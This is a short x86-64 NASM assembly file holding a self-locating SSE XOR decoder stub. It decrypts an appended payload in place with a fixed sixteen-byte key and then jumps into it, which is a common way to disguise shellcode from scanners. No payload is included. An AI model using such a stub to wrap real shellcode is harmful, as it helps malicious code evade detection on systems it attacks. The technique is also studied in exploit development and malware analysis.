; Decoder, 64 bit: sixteen bytes at a time by SSE; finds itself relative to rip.
bits 64
        jmp short start
length: dw 0
start:  movzx ecx, word [rel length]
        add ecx, byte 15
        shr ecx, 4
        lea rsi, [rel payload]
        movups xmm0, [rel key]
again:  movups xmm1, [rsi]
        pxor xmm1, xmm0
        movups [rsi], xmm1
        add rsi, byte 16
        loop again
        jmp short payload
key:    db 0x5a, 0x13, 0xc7, 0x88, 0x21, 0x9d, 0x6e, 0xf4, 0x5a, 0x13, 0xc7, 0x88, 0x21, 0x9d, 0x6e, 0xf4
payload:
